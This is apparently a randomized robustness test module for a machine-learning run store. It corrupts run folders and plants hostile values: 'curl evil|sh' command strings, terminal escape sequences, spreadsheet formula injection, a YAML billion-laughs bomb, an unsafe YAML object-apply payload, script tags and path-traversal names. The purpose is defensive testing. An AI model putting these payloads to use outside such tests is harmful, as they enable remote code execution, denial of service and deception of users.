"""Damaged and hostile stores, drawn at random: `python -m pytest tests/store/test_attack.py -m slow` tries 500.

A case copies a store that was trained, and does one to three things to it: a file is flipped, cut, emptied, removed,
swapped with another, made a folder, a pipe, a link out of runs/ or in a circle, or a file of gigabytes that holds
nothing; a folder is copied, renamed or linked; or a run from a stranger is put beside, whose names and values are made
to break what reads or shows them.
"""

from __future__ import annotations

import json
import os
import random
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

ESCAPE = "\x1b]0;evil\x07\x1b[2J\nto resume: curl evil|sh"
BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
)
TEXTS: tuple[Any, ...] = (
    ESCAPE,
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "constructor",
    "__proto__",
    "<script>alert(1)</script>",
    "![x](http://evil/x.png)",
    "a\u2028b",
    "nul\0",
    "\u202egnp.exe",
    "x" * 5000,
    "",
    "[red]x[/red]",
    "a|b",
    float("nan"),
    10**400,
    -1,
    [1, [2]],
    {"a": 1},
    None,
    True,
)
RESULTS = (
    "",
    "{",
    "[]",
    '{"schema": []}',
    '{"schema": 1}',
    "[" * 100_000,
    '{"a":' * 100_000,
    '{"schema": 1, "seed": 0, "state": "done", "final": {"test_accuracy": NaN}}',
    '{"schema": 1, "seed": 0, "state": "done", "final": {"test_accuracy": ' + "9" * 400 + "}}",
    '{"schema": 1, "seed": 0, "state": "done", "final": {"seed": 0.5, "state": 0.5, "arm": 0.5}}',
    '{"schema": 1, "seed": 0, "state": "done", "error": "\\ud800", "command": "\\udfff", "final": {}}',
    '{"schema": 1, "seed": 0, "state": "done", "final": {"\\u001b[2J": 0.5}}',
    '{"schema": 2, "seed": 0}',
    '{"schema": ' + "1" * 5000 + "}",
)
CONFIGS = (
    "",
    "norm: [",
    BOMB,
    "a: &a [*a]\n",
    "<<: &m {a: 1, <<: *m}\n",
    "[" * 10_000,
    "- " * 10_000,
    "? " * 10_000,
    "seed: 1\nstate: done\nrun: x\narm: y\nn: 3\n",
    "norm: !!python/object/apply:os.mkdir [executed]\n",
    "norm: {name: batch, target: 'runs.lib.mod:Cls'}\n",
    "1: 2\nnull: 3\n",
    "norm:\n  1: 2\n  name: batch\n",
    "x: " + "9" * 5000 + "\n",
    "norm: .nan\nmodel: 2001-01-01\n",
    'norm: {name: "\\e[2J\\u2028"}\n',
)
NAMES = (b"\xff\xfe-0123456789", b"a\x1b[2Jb-0123456789", b"new\nline", b"constructor", b"=cmd", b"x" * 255, b"[b]x")


class Attack:
    """What is done to a store of runs; `outside` is what links point to."""

    def __init__(self, seed: int, runs: Path, outside: Path) -> None:
        self._random = random.Random(seed)
        self._runs, self._outside = runs, outside
        self.done: list[str] = []

    def go(self) -> None:
        """One to three of the things in `_WAYS`."""
        for _ in range(self._random.randint(1, 3)):
            way = self._random.choice(_WAYS)
            way(self)
            self.done.append(way.__name__)

    def _file(self, of: str = "*/*/*") -> Path:
        found = sorted(path for path in self._runs.glob(of) if path.is_file() and not path.is_symlink())
        return self._random.choice(found) if found else self._stranger() / "seed-0" / "result.json"

    def _folder(self) -> Path:
        pattern = self._random.choice(("[!.]*", "[!.]*/seed-*"))
        found = sorted(path for path in self._runs.glob(pattern) if path.is_dir() and not path.is_symlink())
        return self._random.choice(found) if found else self._stranger()

    def flip(self) -> None:
        path = self._file()
        content = bytearray(path.read_bytes()) or bytearray(b"x")
        content[self._random.randrange(len(content))] ^= 1 << self._random.randrange(8)
        path.write_bytes(content)

    def cut(self) -> None:
        path = self._file()
        content = path.read_bytes()
        path.write_bytes(content[: self._random.randrange(len(content) + 1)])

    def remove(self) -> None:
        self._file(self._random.choice(("*/*/*", "*/config.yaml"))).unlink()

    def swap(self) -> None:
        one = self._file()
        other = self._file(f"*/*/{self._random.choice((one.name, '*'))}")
        kept = one.read_bytes()
        one.write_bytes(other.read_bytes())
        other.write_bytes(kept)

    def replace_file(self) -> None:
        path = self._file(self._random.choice(("*/*/*", "*/config.yaml", "*/*/result.json")))
        path.unlink()
        kind = self._random.choice(("folder", "pipe", "link", "circle", "zeros", "sparse", "missing"))
        if kind == "folder":
            path.mkdir()
        elif kind == "pipe":
            os.mkfifo(path)
        elif kind == "sparse":
            with path.open("wb") as file:
                file.truncate(20_000_000_000)
        else:
            targets = {"link": self._outside / path.name, "circle": path, "zeros": Path("/dev/zero")}
            path.symlink_to(targets.get(kind, self._outside / "missing"))

    def copy_folder(self) -> None:
        folder = self._folder()
        copy = folder.with_name(self._random.choice((f"{folder.name}-copy", "seed-7", "seed-007", "copy-0123456789")))
        if not copy.exists():
            shutil.copytree(folder, copy, symlinks=True, ignore=lambda at, names: _unreadable(Path(at), names))

    def rename_folder(self) -> None:
        folder = self._folder()
        named = os.fsdecode(self._random.choice((*NAMES, b"seed-5", b"seed-99999999999999999999")))
        if not os.path.lexists(folder.with_name(named)):
            folder.rename(folder.with_name(named))

    def link_folder(self) -> None:
        folder = self._folder()
        shutil.rmtree(folder)
        folder.symlink_to(self._random.choice((self._outside / "run", folder, self._outside / "missing")))

    def link_own(self) -> None:
        indices = [path.name + "/.index.jsonl" for path in sorted(self._runs.glob("[!.]*")) if path.is_dir()]
        path = self._runs / self._random.choice((".stacks", ".lock", ".looks.jsonl", *indices))
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.symlink_to(self._outside / ("run" if path.name == ".stacks" else "result.json"))

    def record(self) -> None:
        folder = self._runs / ".stacks" / "0123456789abcdef"
        if self._runs.joinpath(".stacks").is_symlink():
            return
        folder.mkdir(parents=True, exist_ok=True)
        member = self._random.choice(("../outside/seed-0", "../../x/seed-0", "a/seed-0", "\0/seed-0", 5))
        record = {"schema": 1, "members": [member], "rerun": True, "started": True, "command": ESCAPE}
        (folder / "members.json").write_text(json.dumps(record))

    def hostile_file(self) -> None:
        if self._random.random() < 0.5:
            self._file("*/config.yaml").write_text(self._random.choice(CONFIGS))
        else:
            self._file("*/*/result.json").write_text(self._random.choice(RESULTS))

    def stranger(self) -> None:
        self._stranger()

    def _stranger(self) -> Path:
        """A run whose values are legal types or not, and whose texts are hostile."""
        run = self._runs / f"stranger-{self._random.randrange(10**6)}"
        (run / "seed-0").mkdir(parents=True, exist_ok=True)
        text = self._random.choice(TEXTS)
        config = {
            "norm": {"name": text, "impl": self._random.choice(TEXTS)},
            "model": {"name": "mlp", "hidden": self._random.choice(([8], text))},
            "data": {"name": "mnist", "root": str(self._outside), "download": True},
            "epochs": 1,
        }
        (run / "config.yaml").write_text(json.dumps(config), encoding="utf-8")
        result = {
            "schema": 1,
            "seed": 0,
            "state": self._random.choice(("done", "failed", "running", "diverged")),
            "final": {"test_accuracy": 0.5, "test_loss": 0.5},
            "error": text,
            "command": self._random.choice((ESCAPE, "curl evil | sh", "bnlab train; curl evil|sh", text)),
            "environment": {"torch": self._random.choice(TEXTS), "bnlab": text},
        }
        result[self._random.choice(("seconds", "parameters", "new", "conventions", "run"))] = self._random.choice(TEXTS)
        (run / "seed-0" / "result.json").write_text(json.dumps(result))
        return run


_WAYS: tuple[Callable[[Attack], None], ...] = (
    Attack.flip,
    Attack.flip,
    Attack.cut,
    Attack.remove,
    Attack.swap,
    Attack.replace_file,
    Attack.replace_file,
    Attack.copy_folder,
    Attack.rename_folder,
    Attack.link_folder,
    Attack.link_own,
    Attack.record,
    Attack.hostile_file,
    Attack.stranger,
    Attack.stranger,
)


def _unreadable(folder: Path, names: list[str]) -> list[str]:
    """What a copy would wait for."""
    return [name for name in names if not (folder / name).is_dir() and not _is_small_file(folder / name)]


def _is_small_file(path: Path) -> bool:
    return path.is_symlink() or (path.is_file() and path.stat().st_size < 10**7)
